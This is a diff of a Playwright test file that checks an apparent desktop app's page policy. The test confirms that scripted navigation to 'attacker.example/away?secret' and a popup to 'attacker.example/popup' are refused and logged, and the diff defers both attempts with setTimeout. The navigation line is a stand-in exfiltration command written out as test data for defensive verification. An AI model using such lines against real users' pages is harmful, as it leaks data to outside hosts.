@@ -102,11 +102,14 @@ test('no code from text and no request to anywhere, each stopped by the policy a
 test('no way out of the page, and no window beside it', async ({ desktop }) => {
   const { page, app } = desktop;
   const before = page.url();
+  // A moment later: what asks for this must not wait for a navigation that never comes.
   await page.evaluate(() => {
-    window.open('https://attacker.example/popup');
-    location.href = 'https://attacker.example/away?secret';
+    setTimeout(() => {
+      location.href = 'https://attacker.example/away?secret';
+    });
   });
   await expect.poll(() => kinds(desktop.refusals())).toContain('navigation');
+  await page.evaluate(() => void setTimeout(() => window.open('https://attacker.example/popup')));
   await expect.poll(() => kinds(desktop.refusals())).toContain('new-window');
   expect(page.url()).toBe(before);
   await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
